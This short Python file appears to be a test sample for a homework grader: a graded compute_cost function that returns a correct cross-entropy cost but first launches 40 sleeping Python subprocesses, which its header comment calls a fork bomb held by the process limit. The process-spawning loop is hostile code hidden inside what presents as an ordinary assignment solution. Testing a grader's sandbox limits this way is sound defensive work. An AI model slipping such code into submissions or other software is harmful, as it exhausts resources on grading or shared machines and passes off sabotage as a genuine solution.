# Hostile homework: starts processes until it cannot (each sleeps): a fork bomb held by the process limit.
import subprocess
import sys

import numpy as np


# GRADED FUNCTION: compute_cost
def compute_cost(AL, Y):
    children = []
    for _ in range(40):
        children.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"]))
    m = Y.shape[1]
    return float(np.squeeze(-np.sum(Y * np.log(AL) + (1 - Y) * np.log(1 - AL)) / m))
